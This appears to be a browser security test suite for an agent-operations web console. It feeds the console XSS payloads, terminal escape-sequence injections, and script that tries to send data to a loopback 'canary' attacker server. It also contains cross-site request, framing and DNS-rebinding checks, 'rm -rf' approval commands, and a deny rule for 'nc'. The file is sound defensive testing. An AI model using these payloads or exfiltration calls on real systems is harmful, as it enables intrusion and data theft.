"""The plain console in a real Chromium, against texts of agents and pages of other sites that attack it.

Every request that Chromium makes is recorded: a request to anything but the service fails the test.
"""

from __future__ import annotations

import base64
import re
import shlex
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, Final

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Dialog, FloatRect, Page, Route, expect

from tests.service.browser import (
    REBOUND,
    WATCH,
    WatchedPage,
    attacks,
    in_shell,
    new_session,
    service_with,
)
from tests.service.running_service import API, PATIENCE_SECONDS, RunningService
from tests.support.parts import needs

pytestmark = [needs("chromium"), pytest.mark.asyncio(loop_scope="module")]

RULES: Final = """
[profiles.default.commands]
rules = [{ verdict = "ask", program = "rm" }, { verdict = "deny", program = "nc" }]
"""
# --- the parts ---------------------------------------------------------------------------------------------------


class Canary:
    """A server of an attacker on loopback: it serves the attacker's page and counts what reaches it."""

    def __init__(self) -> None:
        self.address = ""
        self.page = ""
        self.hits: list[str] = []


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    made = Canary()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/attack":
                body = made.page.encode()
            else:
                body = b"window.ran.push('from the canary')"
                made.hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET  # noqa: N815 (the base class finds these names)

        def log_message(self, *_: object) -> None:
            """Quiet."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        made.address = f"http://127.0.0.1:{server.server_port}"
        serving = threading.Thread(target=server.serve_forever)
        serving.start()
        try:
            yield made
        finally:
            server.shutdown()
            serving.join()


@pytest.fixture(scope="module")
def service() -> Iterator[RunningService]:
    with service_with(RULES) as service:
        yield service


@pytest.fixture(scope="module")
def agent(service: RunningService) -> str:
    return service.home.new_agent("builder")


class Watched(WatchedPage):
    """A page of the plain console."""

    def __init__(self, page: Page, service: RunningService, canary: Canary) -> None:
        super().__init__(page, service)
        self.canary = canary
        self.referrers: list[str] = []
        self.dialogs: list[str] = []
        page.on("request", lambda request: self.referrers.append(request.headers.get("referer", "")))
        page.on("dialog", self._dialog)

    async def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.accept()

    async def enter(self, token: str, session: str = "") -> None:
        await self.page.goto(f"{self.service.http}/plain" + (f"#session/{session}" if session else ""))
        await self.page.fill("#token", token)
        await self.page.click("#enter button")
        await expect(self.page.locator("#leave")).to_be_visible()

    async def shows(self, selector: str, text: str | re.Pattern[str]) -> None:
        await expect(self.page.locator(selector)).to_contain_text(text)

    async def hold_still(self) -> None:
        """No refresh any more: what is compared next must not change by itself."""
        await self.page.evaluate(
            "() => { for (let id = setTimeout(() => 0); id; id--) clearTimeout(id); window.setTimeout = () => 0; }"
        )

    async def unharmed(self) -> None:
        """The same, and no markup came from data."""
        await super().unharmed()
        assert self.canary.hits == []
        assert await self.page.evaluate(FOREIGN) == []


#: Elements in the document that are not of the page's own making: its tags and attributes are known.
FOREIGN: Final = """() => {
  const tags = "html head meta title link script body header h1 form label input button p noscript main section h2 "
    + "ul select option span div table thead tr th tbody a h3 dl dt dd td li pre";
  const attributes = "lang charset name content rel href type src id autocomplete spellcheck required hidden role "
    + "aria-labelledby aria-live aria-label value disabled scope tabindex checked autocapitalize class data-key "
    + "data-number";
  const [known, allowed] = [new Set(tags.split(" ")), new Set(attributes.split(" "))];
  const own = ["console.css", "console.js"];
  return Array.from(document.querySelectorAll("*")).flatMap((element) => [
    ...(known.has(element.localName) ? [] : [`<${element.localName}>`]),
    ...Array.from(element.attributes)
      .filter(({ name, value }) => !allowed.has(name)
        || (["href", "src"].includes(name) && !value.startsWith("#") && !own.includes(value)))
      .map(({ name, value }) => `<${element.localName} ${name}=${value}>`),
  ]);
}"""


@pytest_asyncio.fixture(loop_scope="module")
async def console(browser: Browser, service: RunningService, canary: Canary) -> AsyncIterator[Watched]:
    """A new page without storage of others."""
    canary.hits.clear()
    context = await browser.new_context(viewport={"width": 1200, "height": 1400})
    await context.add_init_script(WATCH)
    watched = Watched(await context.new_page(), service, canary)
    yield watched
    await watched.page.unroute_all(behavior="ignoreErrors")
    await context.close()


@contextmanager
def waiting_command(service: RunningService, agent: str, session: str, command: str) -> Iterator[None]:
    """Inside it, `command` waits for an approval."""
    answers: list[Any] = []
    call = threading.Thread(
        target=lambda: answers.append(service.post("RunCommand", agent, sessionId=session, command=command))
    )
    call.start()
    try:
        yield
    finally:
        for each in service.call("ListApprovals", service.operator).get("approvals", []):
            service.post("AnswerApproval", service.operator, approvalId=each["approvalId"], approve=False)
        call.join(PATIENCE_SECONDS)
        assert answers


# --- texts of agents ---------------------------------------------------------------------------------------------


async def test_hostile_output_labels_paths_commands_and_comments_stay_texts(
    console: Watched, service: RunningService, agent: str, canary: Canary
) -> None:
    texts = attacks(canary.address)
    output = b"".join(
        [
            *(text.encode() + b"\n" for text in texts),
            b"\x1b]0;<script>ran.push(1)</script>\x07\x1b]8;;javascript:ran.push(1)\x1b\\a link\x1b]8;;\x1b\\\n",
            b"\x1b]52;c;" + base64.b64encode(b"clipboard") + b"\x07\x1b]1337;File=inline=1:AAAA\x07\x1bP+q\x1b\\",
            b"a\x00b\xff\xfe\xc3\n\xed\xa0\x80\n\xe2\x80\xae turned\n",
            b"\x1b[31m" * 2_000 + b"\n" + b"y" * 20_000 + b"\n",
            b"the end of it\n",
        ]
    )
    labels = {f"label {number}": text for number, text in enumerate(texts)}
    session = new_session(service, agent, kind="SHELL", labels=labels, environment={"ATTACK": "\n".join(texts[:3])})
    directory = "'" + texts[0].replace("/", "_").replace("'", "") + "'"
    service.call("RunCommand", agent, sessionId=session, command=f"mkdir {directory}; cd {directory}")
    service.call("RunCommand", agent, sessionId=session, command=in_shell(output))
    with waiting_command(service, agent, session, "\n".join(f"rm {shlex.quote(text)}" for text in texts)):
        await console.enter(service.operator, session)
        await console.shows("#output", "the end of it")
        for text in texts:
            await console.shows("#output", text)
            await console.shows("#facts", text)
            await console.shows("#approvals pre", f"rm {shlex.quote(text)}")
        await console.shows("#sessions", texts[0])
        await console.shows("#facts", directory.strip("'"))
        await console.shows("#output", "a link")
        await console.shows("#output", "\\u{202e} turned")
        await console.unharmed()
        # The operator's own words come back in the audit.
        await console.page.fill("#approvals input", texts[1])
        await console.page.click("#approvals button:text-is('Refuse')")
        await expect(console.page.locator("#approvals li")).to_have_count(0)
    await console.page.click("#audit-newest")
    await console.shows("#audit", texts[1])
    await console.shows("#audit", "rm '<script>")
    await console.unharmed()
    assert console.dialogs == []
    assert await console.page.title() == "Holdfast"
    await console.page.click("#FORCE")
    await console.shows("#outcome", "CLOSED (closed by operator)")
    await console.shows("#facts", "closed by operator")
    await console.unharmed()
    assert console.dialogs == [f"Close {session}? Its processes are killed at once."]


#: The values that the page computes with: times, positions, states.
COMPUTED: Final = re.compile(r"at|\w*At|value|payload|state|nextPageToken")


def poisoned(reply: Any, attack: str, name: str = "") -> Any:
    """The reply with every string of it replaced, but for those that the page computes with."""
    if isinstance(reply, dict):
        return {each: poisoned(value, attack, each) for each, value in reply.items()}
    if isinstance(reply, list):
        return [poisoned(value, attack, name) for value in reply]
    return attack if isinstance(reply, str) and not COMPUTED.fullmatch(name) else reply


async def test_every_string_of_every_reply_may_be_hostile(
    console: Watched, service: RunningService, agent: str, canary: Canary
) -> None:
    """The page trusts no field, not even those that the service makes itself: ids, kinds, reasons, summaries."""
    session = new_session(service, agent, kind="SHELL", labels={"a": "b"})
    service.call("RunCommand", agent, sessionId=session, command="echo printed")
    everything = "".join(attacks(canary.address)) + "\u202e"
    answered: set[str] = set()

    async def poison(route: Route) -> None:
        reply = await route.fetch()
        answered.add(route.request.url.rpartition("/")[2])
        await route.fulfill(response=reply, json=poisoned(await reply.json(), everything))

    async def refuse(route: Route) -> None:
        details = [{"debug": {"reason": everything, "retryDelay": "1s"}}]
        await route.fulfill(status=400, json={"code": "not_found", "message": everything, "details": details})

    await console.page.route(f"**{API}*", poison)
    with waiting_command(service, agent, session, "rm x"):
        await console.enter(service.operator, session)
        for part in ("#approvals li > div:first-child", "#approvals pre", "#sessions", "#facts", "#audit"):
            await console.shows(part, everything[:-1] + "\\u{202e}" if part != "#sessions" else everything[:100])
        await console.unharmed()
        await console.page.route(f"**{API}AnswerApproval", refuse)
        await console.page.click("#approvals button:text-is('Allow')")
        await console.shows("#trouble", everything[:-1] + "\\u{202e}")
    # A link to the session that the reply names: the page knows no such session, and opens none.
    await console.page.locator("#sessions a").first.click()
    await expect(console.page.locator("#session")).to_be_hidden()
    await console.unharmed()
    assert answered == {"ListSessions", "ListApprovals", "GetSession", "ReadOutput", "ListAudit"}


async def test_characters_of_a_command_stand_in_their_order(
    console: Watched, service: RunningService, agent: str
) -> None:
    """Letters that are written from right to left turn the digits and slashes between them around."""
    session = new_session(service, agent, kind="SHELL")
    with waiting_command(service, agent, session, "rm -rf \u05d0/1/\u05d1 \u0627\u0644 keep"):
        await console.enter(service.operator)
        await console.shows("#approvals pre", "keep")
        lefts = await console.page.evaluate("""() => {
          const text = document.querySelector("#approvals pre").firstChild;
          return Array.from(text.data, (_, at) => {
            const range = document.createRange();
            range.setStart(text, at);
            range.setEnd(text, at + 1);
            return range.getBoundingClientRect().left;
          });
        }""")
    assert len(lefts) == 20
    assert lefts == sorted(lefts)


async def test_characters_without_ink_are_shown_by_their_number(
    console: Watched, service: RunningService, agent: str
) -> None:
    blanks = "\u00a0\u3164\u2800\u115f\ufe0f\U000e0100\u200b\u2003\u034f"
    session = new_session(service, agent, kind="SHELL", labels={"blank": blanks})
    with waiting_command(service, agent, session, f"rm {blanks}x"):
        await console.enter(service.operator)
        shown = "".join(f"\\u{{{ord(each):x}}}" for each in blanks)
        await console.shows("#approvals pre", f"rm {shown}x")
        await console.shows("#sessions", f"blank={shown}")


async def test_marks_draw_nothing_over_the_fields_around(
    console: Watched, service: RunningService, agent: str
) -> None:
    """Hundreds of combining marks on one letter would draw a column over the page."""
    marks = "\u0301" * 60
    session = new_session(service, agent, kind="SHELL", labels={"marks": f"E{marks}"})
    service.call("RunCommand", agent, sessionId=session, command=in_shell(f"E{marks}\nE\u0301\u0301\n".encode()))
    # Each mark is printed after a letter, and \b puts it beside the one before.
    service.call("RunCommand", agent, sessionId=session, command=in_shell(b"E" + b"x\b\xcc\x81" * 60 + b"\n"))
    await console.enter(agent, session)
    drawn = "E" + "\u0301" * 4 + "\\u{301}"
    await console.shows("#facts", f"marks={drawn}")
    await console.shows("#sessions", f"marks={drawn}")
    lines = console.page.locator("#output div", has_text=re.compile("^E"))
    await expect(lines).to_have_count(3)
    assert [text[:12] for text in await lines.all_text_contents()] == [drawn, "E\u0301\u0301", drawn]
    # Four marks are left, and still are higher than a line: they end at the edge of their field.
    await console.hold_still()
    field = console.page.locator("#facts dd").last
    await field.scroll_into_view_if_needed()
    place = await field.bounding_box()
    assert place is not None
    above: FloatRect = {"x": place["x"], "y": place["y"] - 13, "width": 100, "height": 10}
    pictures = []
    for text in ("\u1ebe\u0301\u0301\u0301\u0301", "E"):
        await field.evaluate("(field, text) => field.textContent = text", text)
        pictures.append(await console.page.screenshot(clip=above))
    assert pictures[0] == pictures[1]


# --- floods ------------------------------------------------------------------------------------------------------


async def test_a_flood_leaves_a_bounded_page_that_is_still_served(
    console: Watched, service: RunningService, agent: str
) -> None:
    session = new_session(service, agent, kind="TERMINAL")
    await console.enter(agent, session)
    await console.shows("#output", re.compile("[$#] "))
    floods = [
        "seq 20000",
        r"printf '\033[2K\033]0;t\007\033[31mx\b%.0s' $(seq 10000)",
        r"printf 'e\314\201\314\201\314\201\314\201\314\201\327\220\330\247%.0s' $(seq 15000)",
    ]
    for flood in (*floods, "echo the flood is ov''er"):
        await console.page.fill("#line", flood)
        await console.page.press("#line", "Enter")
    await console.shows("#output", "the flood is over")
    lines, characters = await console.page.evaluate(
        "() => { const output = document.getElementById('output'); "
        "return [output.children.length, output.textContent.length]; }"
    )
    assert lines <= 5_001
    assert 50_000 < characters <= 256 * 1024 + 8 * 8192
    await console.page.fill("#line", "echo $((6*7)) is served")
    await console.page.press("#line", "Enter")
    await console.shows("#output", "42 is served")
    await console.unharmed()


async def test_clearing_a_long_line_over_and_over_costs_a_bounded_number_of_steps(console: Watched) -> None:
    """Without the bound, a megabyte of `CSI 2 K` behind 8,000 columns kept the page busy for four seconds."""
    await console.page.goto(f"{console.service.http}/plain")
    for clear in ("\x1b[2K", "\x1b[1K"):
        steps = await console.page.evaluate(
            """async (flood) => {
              const { Screen } = await import("./output.js");
              const { fill } = Array.prototype;
              let steps = 0;
              Array.prototype.fill = function (value, start = 0, end = this.length) {
                steps += end - start;
                return fill.call(this, value, start, end);
              };
              new Screen().write(new TextEncoder().encode(flood));
              Array.prototype.fill = fill;
              return steps;
            }""",
            "x" * 8_000 + f"{clear}x\b" * 10_000,
        )
        assert 0 < steps < 1_000_000
    await console.unharmed()


# --- the token ---------------------------------------------------------------------------------------------------


async def test_the_token_is_in_the_storage_of_its_tab_and_nowhere_else(
    console: Watched, service: RunningService, agent: str
) -> None:
    session = new_session(service, agent, kind="SHELL")
    await console.enter(agent, session)
    await console.shows("#facts", "builder")
    page = console.page
    assert await page.evaluate("() => Object.values(sessionStorage)") == [agent]
    assert not any(
        agent in text for text in [*console.requested, *console.referrers, page.url, await page.content()]
    )
    assert await page.evaluate("() => [localStorage.length, document.cookie]") == [0, ""]
    assert await page.evaluate(
        "async () => [(await indexedDB.databases()).length, (await caches.keys()).length]"
    ) == [0, 0]
    assert await page.context.cookies() == []
    await page.reload()
    await console.shows("#facts", "builder")
    other = await page.context.new_page()
    await other.goto(f"{service.http}/plain")
    await expect(other.locator("#enter")).to_be_visible()
    assert await other.evaluate("() => sessionStorage.length") == 0
    await page.click("#leave")
    assert await page.evaluate("() => sessionStorage.length") == 0
    assert agent not in await page.content()
    await console.unharmed()


# --- the policy of the page --------------------------------------------------------------------------------------


async def test_a_script_that_got_in_finds_every_way_closed(
    console: Watched, service: RunningService, canary: Canary
) -> None:
    """The second wall: with a mistake in the page, the browser makes no markup of texts and sends nothing away."""
    await console.page.goto(f"{service.http}/plain")
    refused = await console.page.evaluate(
        """async (canary) => {
          const refused = {};
          const attempt = async (name, work) => {
            try { await work(); } catch (error) { refused[name] = error.name; }
          };
          const made = (tag, properties) => Object.assign(document.createElement(tag), properties);
          const added = (tag, properties) => document.body.append(made(tag, properties));
          const settled = (tag, properties) => new Promise((resolve, reject) =>
            added(tag, { ...properties, onload: resolve, onerror: () => reject(new Error("blocked")) }));
          await attempt("innerHTML", () => { document.body.innerHTML = "<b>"; });
          await attempt("insertAdjacentHTML", () => document.body.insertAdjacentHTML("beforeend", "<b>"));
          await attempt("document.write", () => document.write("<b>"));
          await attempt("DOMParser", () => new DOMParser().parseFromString("<b>", "text/html"));
          await attempt("script text", () => added("script", { textContent: "ran.push('script')" }));
          await attempt("script src", () => added("script", { src: `${canary}/script` }));
          await attempt("setTimeout", () => setTimeout("ran.push('timeout')"));
          await attempt("handler", () => document.body.setAttribute("onclick", "ran.push('handler')"));
          location.href = "javascript:ran.push('address')";
          await attempt("import", () => import(`${canary}/module`));
          await attempt("fetch", () => fetch(`${canary}/fetch`, { mode: "no-cors" }));
          navigator.sendBeacon(`${canary}/beacon`, "x");
          await attempt("socket", () => new Promise((resolve, reject) => {
            const socket = new WebSocket(canary.replace("http", "ws"));
            Object.assign(socket, { onopen: resolve, onerror: () => reject(new Error("blocked")) });
          }));
          await attempt("worker", () => new Promise((_, reject) => {
            new Worker(URL.createObjectURL(new Blob(["0"]))).onerror = () => reject(new Error("blocked"));
          }));
          await attempt("img", () => settled("img", { src: `${canary}/img` }));
          await attempt("style", () => settled("link", { rel: "stylesheet", href: `${canary}/style` }));
          added("form", { action: `${canary}/form`, method: "post", id: "attack" });
          document.getElementById("attack").submit();
          document.head.append(made("base", { href: canary }));
          refused.base = document.baseURI.startsWith(canary) ? undefined : "ignored";
          return refused;
        }""",
        canary.address,
    )
    assert set(refused) == {
        "innerHTML", "insertAdjacentHTML", "document.write", "DOMParser", "script text", "script src", "setTimeout",
        "handler", "import", "fetch", "socket", "worker", "img", "style", "base",
    }  # fmt: skip
    await console.page.evaluate("() => document.body.click()")
    assert await console.page.evaluate("() => window.ran") == []
    assert canary.hits == []


# --- pages of other sites ----------------------------------------------------------------------------------------


def session_ids(service: RunningService) -> set[str]:
    """Return the ids of all sessions. Their other fields change by themselves."""
    return {each["metadata"]["sessionId"] for each in service.call("ListSessions", service.operator)["sessions"]}


async def attacked_by(console: Watched, page: str) -> Page:
    """The attacker's page, open in a tab beside the console's."""
    console.canary.page = f"<!doctype html><title>attack</title><body>{page}"
    tab = await console.page.context.new_page()
    await tab.goto(f"{console.canary.address}/attack")
    return tab


async def test_no_page_puts_the_console_into_a_frame(console: Watched, service: RunningService) -> None:
    address = f"{service.http}/"
    frames = f"<iframe src={address}></iframe><object data={address}></object><embed src={address}>"
    tab = await attacked_by(console, frames)
    await tab.wait_for_load_state("networkidle")
    assert [frame.url for frame in tab.frames if frame.url.startswith(service.http)] == []
    for frame in tab.frames:
        assert await frame.locator("#token").count() == 0


async def test_a_page_that_opens_the_console_gets_no_handle_on_it(
    console: Watched, service: RunningService
) -> None:
    tab = await attacked_by(console, "<button onclick='window.opened = window.open(this.title)'>open")
    await tab.evaluate("(address) => { document.querySelector('button').title = address }", f"{service.http}/")
    # Not `expect_popup`: to the driver, too, the new page is none that this one opened.
    async with tab.context.expect_page() as opening:
        await tab.click("button")
    popup = await opening.value
    await expect(popup.locator("#token")).to_be_visible()
    assert await popup.evaluate("() => window.opener") is None
    assert await tab.evaluate("() => window.opened.closed")


async def test_a_page_of_another_site_reads_and_does_nothing_even_with_a_token(
    console: Watched, service: RunningService
) -> None:
    tab = await attacked_by(console, "")
    before = session_ids(service)
    outcome = await tab.evaluate(
        """async ([service, api, token]) => {
          const outcome = {};
          const send = async (name, path, options) => {
            try {
              const reply = await fetch(service + path, options);
              outcome[name] = reply.type === "opaque" ? "opaque" : "read";
            } catch { outcome[name] = "refused"; }
          };
          const script = (path) => new Promise((resolve) => document.body.append(Object.assign(
            document.createElement("script"),
            { src: service + path, onload: () => resolve("run"), onerror: () => resolve("refused") })));
          const body = JSON.stringify({ kind: "SHELL" });
          const headers = { "Content-Type": "application/json", Authorization: `Bearer ${token}` };
          await send("JSON", `${api}CreateSession`, { method: "POST", headers, body });
          await send("simple", `${api}CreateSession`, { method: "POST", body, mode: "no-cors" });
          await send("metrics", "/metrics", {});
          await send("page", "/", {});
          outcome["metrics as a script"] = await script("/metrics");
          outcome["API as a script"] = await script(`${api}ListSessions`);
          outcome["console as a script"] = await script("/console.js");
          return outcome;
        }""",
        [service.http, API, service.operator],
    )
    assert outcome == {
        "JSON": "refused",
        "simple": "opaque",
        "metrics": "refused",
        "page": "refused",
        "metrics as a script": "refused",
        "API as a script": "refused",
        "console as a script": "refused",
    }
    assert session_ids(service) == before


async def test_a_page_whose_name_resolves_to_this_machine_reads_nothing(
    console: Watched, service: RunningService
) -> None:
    """DNS rebinding: to the browser the service is a part of the attacker's own site."""
    rebound = service.http.replace("127.0.0.1", REBOUND)
    reply = await console.page.goto(f"{rebound}/")
    assert reply is not None
    assert reply.status == 421
    read = await console.page.evaluate(
        "(paths) => Promise.all(paths.map(async (path) => (await fetch(path)).status))",
        ["/", "/console.js", "/metrics", "/readyz", "/healthz", f"{API}ListSessions"],
    )
    assert read == [421] * 6


async def test_no_answer_is_taken_for_a_page(console: Watched, service: RunningService) -> None:
    """Addresses and answers with markup in them, opened as a page."""
    markup = "<img src=x onerror=ran.push(1)>"
    for path in (API + markup, f"/{markup}", "/metrics", "/readyz", "/healthz"):
        reply = await console.page.goto(service.http + path)
        assert reply is not None
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert await console.page.evaluate("() => document.contentType") in ("text/plain", "application/json")
        assert await console.page.evaluate("() => [window.ran, document.querySelector('img')]") == [[], None]
